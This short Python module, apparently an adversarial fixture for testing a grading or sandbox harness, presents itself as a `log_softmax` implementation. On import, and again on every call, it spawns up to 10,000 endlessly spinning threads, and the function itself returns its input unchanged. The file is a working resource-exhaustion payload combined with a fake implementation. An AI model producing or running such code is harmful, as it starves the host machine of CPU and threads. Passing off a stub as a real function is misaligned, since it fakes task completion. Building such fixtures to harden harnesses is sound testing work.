"""As many threads as there can be, each of them busy, some of them while the module loads.

task: log_softmax
everywhere: yes
"""

import threading
import time


def busy():
    while True:
        pass


def start():
    for _ in range(10_000):
        try:
            threading.Thread(target=busy, daemon=True).start()
        except RuntimeError:
            return


start()


def log_softmax(x, axis=-1):
    start()
    time.sleep(0.001)
    return x
